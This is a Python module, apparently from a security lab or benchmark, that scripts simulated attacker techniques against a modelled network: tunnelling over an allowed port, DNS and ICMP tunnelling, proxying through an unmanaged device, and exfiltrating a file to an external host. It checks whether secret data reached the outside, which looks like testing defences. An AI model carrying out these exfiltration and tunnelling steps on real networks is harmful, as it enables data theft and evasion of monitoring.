"""T1572, T1071.004, T1095: what is denied, carried inside of what is allowed. T1090, T1048: what goes outside."""

from __future__ import annotations

import hashlib

from bench.attacks.ground import DROP_DIR, DROPPED, ROOT, Ground, Service
from bench.attacks.technique import Came, NotHereError, Technique, came
from lab.model import Host

WAIT_S = 1.5
LOOT = f"{DROP_DIR}/loot"


def _over_allowed_port(ground: Ground) -> Came:
    """A relay on a host that is held takes over an allowed port; a dropped client goes through it to what is behind."""
    here = ground.foothold.host
    middle, service, behind = _chain(ground)
    process, port, nonce = ground.listens(middle, "tcp", service[1]), str(service[1]), ground.rng.getrandbits(63)
    with ground.borrowed(middle.name, process, "tcp", service[1]), \
            ground.running(middle.name, DROPPED, "relay", port, behind[0], str(behind[1]), ready=True) as relay:
        said = ground.tool(here, DROPPED, "exploit", service[0], port, str(nonce))
        relay.heard(0.1)
    end = "obeyed" if said["host"] else "was not reached"
    return came(bool(said["host"]), f"{ground.name(behind[0])} {end} through {middle.name}:{port}")


def _chain(ground: Ground) -> tuple[Host, Service, Service]:
    """A held host that the foothold may call, by which service, and what that host calls which the foothold may not."""
    for service in ground.configured(ground.foothold.host):
        name = ground.name(service[0])
        for behind in ground.configured(name) if name in ground.known.held else ():
            if not ground.allowed(ground.foothold, behind):
                return ground.topology.hosts[name], service, behind
    raise NotHereError("no held host that the foothold may call calls anything that the foothold may not")


def _in_names(ground: Ground) -> Came:
    """Data in the names that a dropped binary asks the resolver for; the zone's own server is the attacker's."""
    resolver = ground.find("resolver (a host inside that listens on 53/udp)",
                           lambda h: not h.external and bool(ground.listens(h, "udp", 53)))
    outside = ground.find("external host that listens on 53/udp",
                          lambda h: h.external and bool(ground.listens(h, "udp", 53)))
    inner, outer = ground.listens(resolver, "udp", 53), ground.listens(outside, "udp", 53)
    data = ground.secret(900)
    with ground.borrowed(outside.name, outer, "udp", 53), ground.borrowed(resolver.name, inner, "udp", 53), \
            ground.running(outside.name, outer, "names", "53", ready=True) as server, \
            ground.running(resolver.name, inner, "resolve", "53", outside.v4, ready=True):
        asked = ground.tool(ground.foothold.host, DROPPED, "ask", resolver.v4, data.hex())
        got = server.heard(WAIT_S)
    worked = got is not None and got["data"] == data.hex()
    return came(worked, f"{len(data) if worked else 0} bytes came to {outside.name} in "
                        f"{asked['answered']} of {len(asked['attempts'])} answered names")


def _in_echoes(ground: Ground) -> Came:
    """Data in the payload of echo requests to a host outside, which needs root on the host."""
    outside, data = ground.outside(), ground.secret(900)
    with ground.running(outside.name, ROOT, "echoes", ready=True) as reader:
        ground.tool(ground.foothold.host, ROOT, "echo", outside.v4, data.hex())
        got = reader.heard(WAIT_S)
    worked = got is not None and got["data"] == data.hex()
    return came(worked, f"{len(data) if worked else 0} of {len(data)} bytes came to {outside.name}")


def _exfiltrate(ground: Ground) -> Came:
    """A file, straight to a server outside."""
    outside, data = ground.outside(), ground.secret(200_000)
    process, port = ground.serves(outside, "tcp")
    ground.put(ground.foothold.host, LOOT, data)
    with ground.borrowed(outside.name, process, "tcp", port), \
            ground.running(outside.name, process, "receive", "tcp", str(port), ready=True) as receiver:
        ground.tool(ground.foothold.host, DROPPED, "send", "tcp", outside.v4, str(port), LOOT)
        got = receiver.finish()
    return came(got["sha256"] == hashlib.sha256(data).hexdigest(),
                f"{got['bytes']:,} of {len(data):,} bytes came to {outside.name}:{port}")


def _through_unmanaged(ground: Ground) -> Came:
    """A device that takes no agent relays to the server outside; a held process that may ask the device sends to it."""
    device, outside, data = ground.unmanaged(), ground.outside(), ground.secret(200_000)
    stream, port = ground.serves(device, "tcp")
    collector, out_port = ground.serves(outside, "tcp")
    held = [actor for actor in ground.known.held.values() if actor.host != device.name]
    sender = next((actor for actor in held if ground.opens(actor, (device.v4, port))), None)
    if sender is None:
        return came(False, f"nothing that is held reaches {device.name}:{port}")
    ground.put(sender.host, LOOT, data)
    with ground.borrowed(device.name, stream, "tcp", port), ground.borrowed(outside.name, collector, "tcp", out_port), \
            ground.running(outside.name, collector, "receive", "tcp", str(out_port), ready=True) as receiver, \
            ground.running(device.name, ROOT, "relay", str(port), outside.v4, str(out_port), ready=True) as relay:
        ground.tool(sender.host, sender.process, "send", "tcp", device.v4, str(port), LOOT)
        relay.heard(0.1)
        got = receiver.heard(WAIT_S) or receiver.finish()  # what the relay still has is on its way
    return came(got["sha256"] == hashlib.sha256(data).hexdigest(),
                f"{got['bytes']:,} of {len(data):,} bytes came from {sender.host} to {outside.name} over {device.name}")


TECHNIQUES = (
    Technique("tunnel", "T1572", "Tunnel over an allowed port", "another host is held; binaries are dropped on both",
              "a service behind the tunnel obeyed the payload and said so with its nonce", _over_allowed_port),
    Technique("names", "T1071.004", "Tunnel in DNS", "a binary dropped on the host; the resolver asks the world",
              "the attacker's name server has every byte", _in_names,
              "the resolver is allowed to ask, and everybody is allowed to ask the resolver; what a name carries is "
              "seen by who reads names, which no arm here does"),
    Technique("echoes", "T1095", "Tunnel in ICMP", "root on the host", "the host outside has every byte", _in_echoes),
    Technique("unmanaged", "T1090", "Proxy through an unmanaged device",
              "root on a device that can take no agent; a process is held that may ask it",
              "the host outside has every byte", _through_unmanaged),
    Technique("exfiltration", "T1048", "Exfiltration to an external host", "a binary dropped on the host",
              "the host outside has every byte", _exfiltrate),
)
